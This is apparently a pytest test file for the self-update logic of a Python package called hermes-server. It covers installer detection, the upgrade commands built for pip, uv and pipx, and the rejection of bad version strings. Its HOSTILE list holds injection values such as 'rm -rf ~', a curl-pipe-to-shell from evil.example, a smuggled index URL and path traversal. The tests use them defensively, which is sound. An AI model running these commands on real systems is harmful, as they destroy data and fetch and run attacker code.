"""How it was installed is found, and only then and so it is updated."""

from __future__ import annotations

import itertools
import json
from collections.abc import Mapping
from importlib import metadata
from pathlib import Path
from typing import Any

import pytest

from hermes.home.updates.installation import (
    Installation,
    Kind,
    Release,
    UpdateRefused,
    checked,
    is_newer,
    this_installation,
)

PYTHON = "/venv/bin/python"
HOSTILE = [
    "1.0; rm -rf ~",
    "1.0 && curl evil.example | sh",
    "$(id)",
    "`id`",
    "1.0\n--index-url=http://evil.example",
    "--index-url=http://evil.example",
    "../../etc/passwd",
    "1.0/../../x",
    "1.0 @ file:///tmp/x",
    "1.0+local",
    "1!1.0",
    "v1.0",
    "",
    "1" * 65,
    ".".join(["123456789"] * 6) + ".dev1234",
    "1.0\x1b[31m",
    "١.٠",
    None,
    7,
]


def distribution(tmp_path: Path, installer: str = "pip", direct_url: Mapping[str, Any] | None = None) -> Any:
    info = tmp_path / "hermes_server-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(
        "Metadata-Version: 2.1\nName: hermes-server\nVersion: 1.0\nRequires-Dist: rich\n"
        'Requires-Dist: pytest>=1; extra == "there"\nRequires-Dist: no-such-thing==1; extra == "missing"\n'
    )
    (info / "INSTALLER").write_text(f"{installer}\n")
    if direct_url is not None:
        (info / "direct_url.json").write_text(json.dumps(direct_url))
    return metadata.Distribution.at(info)


@pytest.mark.parametrize(
    ("receipt", "installer", "kind"),
    [
        (None, "pip", Kind.PIP),
        (None, "uv", Kind.UV_PIP),
        ("uv-receipt.toml", "uv", Kind.UV_TOOL),
        ("pipx_metadata.json", "pip", Kind.PIPX),
    ],
)
def test_the_installer_is_found_by_what_it_left(
    tmp_path: Path, receipt: str | None, installer: str, kind: Kind
) -> None:
    if receipt is not None:
        (tmp_path / receipt).touch()
    found = this_installation(tmp_path, distribution(tmp_path, installer))
    assert (found.kind, found.extras) == (kind, ("there",))


@pytest.mark.parametrize(
    ("direct_url", "kind", "way_out"),
    [
        (
            {"url": "file:///src/my%20hermes", "dir_info": {"editable": True}},
            Kind.CHECKOUT,
            "this is a checkout; bring it up to date with: git -C /src/my hermes pull",
        ),
        (
            {"url": "https://me:secret@example.org/hermes.whl", "archive_info": {}},
            Kind.FILE,
            "this was installed from https://example.org/hermes.whl, not from an index; install the newer one from "
            "there",
        ),
    ],
)
def test_what_came_from_no_index_is_not_updated_from_one(
    tmp_path: Path, direct_url: dict[str, Any], kind: Kind, way_out: str
) -> None:
    found = this_installation(tmp_path, distribution(tmp_path, direct_url=direct_url))
    assert found.kind is kind
    for refused in (found.ask, lambda: found.update("9.0")):
        with pytest.raises(UpdateRefused) as raised:
            refused()
        assert raised.value.message == way_out


def test_each_installer_brings_the_fixed_package() -> None:
    find = "/bin/{}".format
    commands = {kind: Installation(kind, PYTHON, extras=("local",)) for kind in Kind}
    kinds = (Kind.PIP, Kind.UV_PIP, Kind.UV_TOOL, Kind.PIPX)
    assert [commands[kind].exactly("1.0", find).arguments for kind in kinds] == [
        (PYTHON, "-m", "pip", "install", "--upgrade", "hermes-server[local]==1.0"),
        ("/bin/uv", "pip", "install", "--python", PYTHON, "hermes-server[local]==1.0"),
        ("/bin/uv", "pip", "install", "--python", PYTHON, "hermes-server[local]==1.0"),
        ("/bin/pipx", "runpip", "hermes-server", "install", "hermes-server[local]==1.0"),
    ]
    assert [commands[kind].update("2.0", find).arguments for kind in kinds] == [
        (PYTHON, "-m", "pip", "install", "--upgrade", "hermes-server[local]==2.0"),
        ("/bin/uv", "pip", "install", "--python", PYTHON, "hermes-server[local]==2.0"),
        ("/bin/uv", "tool", "upgrade", "hermes-server"),
        ("/bin/pipx", "upgrade", "hermes-server"),
    ]
    for kind in kinds:
        asked = commands[kind].ask(find, version="2.0")
        assert "hermes-server==2.0" in (asked.arguments[-1], (asked.stdin or "").strip())
        asked = commands[kind].ask(find)
        assert "hermes-server" in (asked.arguments[-1], (asked.stdin or "").strip())


@pytest.mark.parametrize("kind", [Kind.PIP, Kind.PIPX])
def test_an_environment_without_pip_asks_by_uv(kind: Kind) -> None:
    asked = Installation(kind, PYTHON, has_pip=False).ask("/bin/{}".format)
    assert asked.arguments[:3] == ("/bin/uv", "pip", "compile")
    assert asked.stdin == "hermes-server\n"


def test_an_installer_that_is_not_there_is_named() -> None:
    with pytest.raises(UpdateRefused) as raised:
        Installation(Kind.PIPX, PYTHON, has_pip=False).ask(lambda name: None)
    assert raised.value.message == "this needs uv, which is not on the PATH; upgrade hermes-server as you installed it"


@pytest.mark.parametrize("version", HOSTILE, ids=ascii)
def test_a_version_that_is_none_is_refused_wherever_it_comes_from(version: Any) -> None:
    with pytest.raises(UpdateRefused):
        checked(version)
    report = json.dumps({"install": [{"metadata": {"name": "hermes_server", "version": version}}]})
    with pytest.raises(UpdateRefused) as raised:
        Installation(Kind.PIP, PYTHON).newest(report)
    assert raised.value.message.isprintable()
    if isinstance(version, str):
        with pytest.raises(UpdateRefused):
            Installation(Kind.UV_TOOL, PYTHON).newest(f"hermes-server=={version}\n")
    for kind in (Kind.PIP, Kind.UV_PIP, Kind.UV_TOOL, Kind.PIPX):
        with pytest.raises(UpdateRefused, match="a version that is none"):
            Installation(kind, PYTHON).update(version, "/bin/{}".format)
        with pytest.raises(UpdateRefused, match="a version that is none"):
            Installation(kind, PYTHON).exactly(version, "/bin/{}".format)
    if version is not None:
        with pytest.raises(UpdateRefused):
            Installation(Kind.PIP, PYTHON).ask(version=version)


@pytest.mark.parametrize("answer", ["", "[]", "{}", '{"install": [{}]}', "other==1.0", "a==1\nb==2"])
def test_an_answer_that_is_none_is_refused(answer: str) -> None:
    for kind in (Kind.PIP, Kind.UV_TOOL):
        with pytest.raises(UpdateRefused):
            Installation(kind, PYTHON).newest(answer)


def test_the_package_of_another_name_is_not_taken_for_ours() -> None:
    report = {"install": [{"metadata": {"name": "hermes-server-evil", "version": "9.0"}}]}
    assert Installation(Kind.PIP, PYTHON).newest(json.dumps(report)) is None


@pytest.mark.parametrize(
    ("line", "notes"),
    [
        ("Changelog, https://example.org/changes", "https://example.org/changes"),
        ("Release notes, https://example.org/news", "https://example.org/news"),
        ("Changelog, http://example.org/changes", None),
        ("Changelog, javascript:alert(1)", None),
        ("Homepage, https://example.org", None),
        (7, None),
    ],
)
def test_where_its_news_are_is_what_the_package_says(line: Any, notes: str | None) -> None:
    report = {"install": [{"metadata": {"name": "hermes-server", "version": "9.0", "project_url": [line]}}]}
    assert Installation(Kind.PIP, PYTHON).newest(json.dumps(report)) == Release("9.0", notes)


def test_what_a_person_does_by_hand_names_no_path_and_the_same_installer() -> None:
    told = {kind: Installation(kind, PYTHON, "/src", ("local",)).by_hand("1.0") for kind in Kind}
    assert not any("/" in line for line in told.values())
    assert told[Kind.UV_TOOL] == "uv tool install --force hermes-server[local]==1.0"
    assert told[Kind.PIPX] == "pipx install --force hermes-server[local]==1.0"
    assert told[Kind.CHECKOUT] == "git pull"
    assert Installation(Kind.UV_TOOL, PYTHON).by_hand() == "uv tool upgrade hermes-server"
    assert [kind for kind in Kind if Installation(kind, PYTHON).why_not] == [Kind.CHECKOUT, Kind.FILE]


def test_versions_are_in_the_order_of_their_meaning() -> None:
    ordered = ["1.0.dev1", "1.0a1", "1.0rc1", "1.0rc2", "1.0", "1.0.post1", "1.0.1", "1.2", "1.10", "2"]
    for earlier, later in itertools.pairwise(ordered):
        assert is_newer(later, earlier)
        assert not is_newer(earlier, later)
    assert not is_newer("1.0.0", "1.0")
